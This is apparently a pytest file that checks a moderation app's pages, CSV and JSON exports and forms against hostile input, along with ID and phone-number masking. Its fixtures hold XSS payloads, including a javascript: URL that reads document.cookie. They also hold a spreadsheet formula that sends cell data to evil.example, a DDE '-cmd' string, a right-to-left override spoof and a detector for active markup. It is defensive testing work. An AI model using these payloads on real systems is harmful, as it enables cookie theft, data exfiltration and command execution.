"""Hostile input in every free-text field (message, name, contact, district, page, notes,
answers) stays inert in every view and every export: no script or event handler reaches the
page, no javascript: link, no bidi override reorders anything, no spreadsheet formula runs."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from html.parser import HTMLParser

import pytest

from feedback_api import text

SCRIPT = "<script>alert('xss')</script>"
HANDLER = '<img src=x onerror="alert(1)">'
BREAKOUT = '" autofocus onfocus="alert(2)'
JS_URL = "javascript:alert(document.cookie)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FULLWIDTH = "＝1+2"
RLO = "abc\u202egpj.exe"
LONG = "W" * 2900
DANGEROUS_STARTS = text.FORMULA_STARTS


class PageAudit(HTMLParser):
    """Collects what would make a page active: script elements, on* attributes, javascript: URLs."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed"):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "formaction") and value and \
                    value.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"{tag} {name}={value}")
            if name == "style":
                self.problems.append(f"{tag} style=")


def assert_inert(html: str, where: str):
    audit = PageAudit()
    audit.feed(html)
    assert audit.problems == [], (where, audit.problems)
    assert "\u202e" not in html, f"{where}: a raw RIGHT-TO-LEFT OVERRIDE reached the page"


@pytest.fixture
def hostile(mod_app, submit, admin):
    """Submissions carrying hostile text in every field, through the public API, the offline
    form, notes and answers; plus one row written straight to the database with a bidi
    override (as an import or an older version might have left it)."""
    refs = [
        submit(f"{SCRIPT} {HANDLER}\n{BREAKOUT}\n{JS_URL}", name=SCRIPT, contact=JS_URL,
               district=HANDLER, page="/ur/" + BREAKOUT.replace(" ", "").replace('"', "")),
        submit(FORMULA, name=FORMULA, contact="+92 300 1234567", district="@SUM(A1:A9)", page="/-2+3"),
        submit(f"{FULLWIDTH} {LONG}", name="-cmd|' /C calc'!A0", district=FULLWIDTH),
    ]
    for ref in refs:
        admin.post(f"/moderation/submissions/{ref}/notes", {"body": f"{SCRIPT}\n{FORMULA}"})
        admin.post(f"/moderation/submissions/{ref}/answer", {
            "body": f"{HANDLER} {FORMULA} {JS_URL}", "language": "en", "action": "publish",
            "listed": "1", "public_question": f"{SCRIPT} {BREAKOUT}"})
    response = admin.post("/moderation/intake", {
        "channel": "town_hall", "gathered_on": "2026-01-15", "district": f"{SCRIPT}",
        "kind": "complaint", "component": "general", "language": "ur",
        "message": f"{FORMULA}\n{SCRIPT}", "name": HANDLER, "contact": BREAKOUT})
    assert response.status_code == 303
    refs.append(response.headers["Location"].rsplit("/", 1)[1])
    conn = sqlite3.connect(mod_app.config["DATABASE"])
    conn.execute("UPDATE submissions SET message = ?, district = ? WHERE reference = ?",
                 [f"file {RLO} here", f"\t=cmd {RLO}", refs[1]])
    conn.commit()
    conn.close()
    return refs


def test_validation_strips_bidi_overrides_on_the_way_in(submit, mod_rows):
    reference = submit(f"photo {RLO}", district="Lahore\u202d")
    row = mod_rows("SELECT message, district FROM submissions WHERE reference = ?", [reference])[0]
    assert "\u202e" not in row["message"] and "\u202d" not in row["district"]


def test_every_view_is_inert(hostile, admin, moderator):
    urls = ["/moderation/?status=all", "/moderation/?status=all&q=script", "/moderation/dashboard",
            "/moderation/audit", f"/moderation/audit?reference={hostile[0]}"]
    urls += [f"/moderation/submissions/{ref}" for ref in hostile]
    for staff in (admin, moderator):
        for url in urls:
            if staff is moderator and url.startswith("/moderation/audit"):
                continue
            response = staff.get(url)
            assert response.status_code == 200, (staff.username, url)
            html = response.get_data(as_text=True)
            assert_inert(html, f"{staff.username} {url}")
    page = admin.get(f"/moderation/submissions/{hostile[0]}").get_data(as_text=True)
    assert "&lt;script&gt;alert(" in page, "the text is shown, escaped, not dropped"
    assert "&lt;img src=x onerror=" in page


def test_bidi_overrides_are_made_visible_and_isolated(hostile, admin):
    page = admin.get(f"/moderation/submissions/{hostile[1]}").get_data(as_text=True)
    assert "⟨U+202E⟩" in page
    assert "invisible direction controls (U+202E)" in page
    assert 'class="usertext message" dir="auto"' in page  # dir=auto isolates it from the page


def test_public_status_pages_are_inert(hostile, mod_app):
    client = mod_app.test_client()
    for ref in hostile[:3]:
        response = client.get(f"/api/v1/submissions/{ref}", headers={"Accept": "text/html"})
        html = response.get_data(as_text=True)
        assert response.status_code == 200
        assert_inert(html, ref)
        assert "&lt;img src=x onerror=" in html
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]


def test_csv_export_neutralises_every_cell(hostile, admin):
    for url in ("/moderation/export.csv?status=all", "/moderation/export.csv?status=all&personal=1"):
        response = admin.get(url)
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        body = response.get_data(as_text=True).lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(body)))
        assert len(rows) == 1 + len(hostile)
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(DANGEROUS_STARTS), (url, cell[:40])
        flat = [cell for row in rows[1:] for cell in row]
        assert "'" + FORMULA in " ".join(flat) or any(c.startswith("'=HYPERLINK") for c in flat)
        assert any(c.startswith("'\t=cmd") for c in flat), "a tab-led cell gets its quote too"
        notes = [row[rows[0].index("notes")] for row in rows[1:]]
        assert sum(SCRIPT in n and FORMULA in n for n in notes) == 3, "notes are exported, as text"
        assert any(c.startswith("'" + FULLWIDTH) for c in flat)
        if "personal=1" in url:
            assert any(c.startswith("'-cmd|") for c in flat)
            assert any(c.startswith("'+92") for c in flat), "a contact starting with + is quoted"
    # every cell is quoted, so a spreadsheet cannot split one into several
    raw = admin.get("/moderation/export.csv?status=all").get_data(as_text=True).lstrip("\ufeff")
    assert raw.startswith('"reference","received_at"')


def test_json_export_is_data_not_a_page(hostile, admin, moderator):
    for staff in (admin, moderator):
        response = staff.get("/moderation/export.json?status=all")
        assert response.mimetype == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Disposition"].startswith("attachment;")
        rows = json.loads(response.get_data(as_text=True))
        assert {r["reference"] for r in rows} == set(hostile)
        assert all("name" not in r and "contact" not in r for r in rows)


def test_numbers_are_masked_in_exports_and_public_answers(admin, submit, mod_app):
    reference = submit("My CNIC is 35202-1234567-1 and my number ۰۳۰۰۱۲۳۴۵۶۷", district="Lahore")
    admin.post(f"/moderation/submissions/{reference}/answer", {
        "body": "We will call 0300 7654321 about CNIC 3520212345671", "language": "en",
        "action": "publish"})
    for url in ("/moderation/export.csv?status=all", "/moderation/export.json?status=all",
                "/moderation/export.csv?status=all&personal=1"):
        body = admin.get(url).get_data(as_text=True)
        assert "1234567" not in body and "۱۲۳۴۵۶۷" not in body and "7654321" not in body, url
        assert "•••••-•••••••-•" in body
    status = mod_app.test_client().get(f"/api/v1/submissions/{reference}").get_json()
    assert status["answer"]["body"] == "We will call •••• ••••••• about CNIC •••••••••••••"
    # admins see the message as written on its page; moderators see it masked
    page = admin.get(f"/moderation/submissions/{reference}").get_data(as_text=True)
    assert "35202-1234567-1" in page


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\nx", "'\nx"), ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"),
    ("＠x", "'＠x"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (12, "12"),
])
def test_neutral_cell(value, expected):
    assert text.neutral_cell(value) == expected


@pytest.mark.parametrize("raw, masked", [
    ("35202-1234567-1", "•••••-•••••••-•"),
    ("3520212345671", "•••••••••••••"),
    ("35202 1234567 1", "••••• ••••••• •"),
    ("۳۵۲۰۲-۱۲۳۴۵۶۷-۱", "•••••-•••••••-•"),
    ("0300-1234567", "••••-•••••••"),
    ("+92 300 1234567", "+•• ••• •••••••"),
    ("(042) 3571 1234", "(•••) •••• ••••"),
    ("٠٣٠٠١٢٣٤٥٦٧", "•••••••••••"),
    ("on 2024-07-10 I got 25000", "on 2024-07-10 I got 25000"),
    ("Rs. 12,000 twice", "Rs. 12,000 twice"),
    ("reference 7KQ2-MXR4-TZF", "reference 7KQ2-MXR4-TZF"),
])
def test_mask_numbers(raw, masked):
    assert text.mask_numbers(raw) == masked


def test_forms_that_echo_input_are_inert(admin, mod_app):
    from tests.fixtures_moderation import Staff
    response = admin.post("/moderation/intake", {
        "channel": "sms", "gathered_on": "not a date", "district": BREAKOUT, "kind": "question",
        "component": "general", "language": "ur", "message": f"{SCRIPT}\n{HANDLER}",
        "name": BREAKOUT, "contact": JS_URL})
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert_inert(html, "intake errors")
    assert "&lt;script&gt;" in html and 'value="&#34; autofocus onfocus=&#34;alert(2)"' in html
    sign_in = Staff(mod_app, BREAKOUT).sign_in(password="wrong")
    assert sign_in.status_code == 401
    assert_inert(sign_in.get_data(as_text=True), "sign-in error")


def test_a_bidi_override_never_reaches_a_textarea_or_option(mod_app, submit, admin, moderator):
    """Form fields cannot hold markers: there the controls are removed (found by looking at a
    screenshot: the public-question box showed "exe.txt" for "txt.exe")."""
    reference = submit("placeholder")
    conn = sqlite3.connect(mod_app.config["DATABASE"])
    conn.execute("UPDATE submissions SET message = ?, district = ? WHERE reference = ?",
                 [f"Invoice {RLO}", f"Lahore{RLO}", reference])
    conn.commit()
    conn.close()
    for staff in (admin, moderator):
        for url in (f"/moderation/submissions/{reference}", "/moderation/", "/moderation/dashboard"):
            assert_inert(staff.get(url).get_data(as_text=True), f"{staff.username} {url}")
    page = admin.get(f"/moderation/submissions/{reference}").get_data(as_text=True)
    assert ">Invoice abcgpj.exe</textarea>" in page
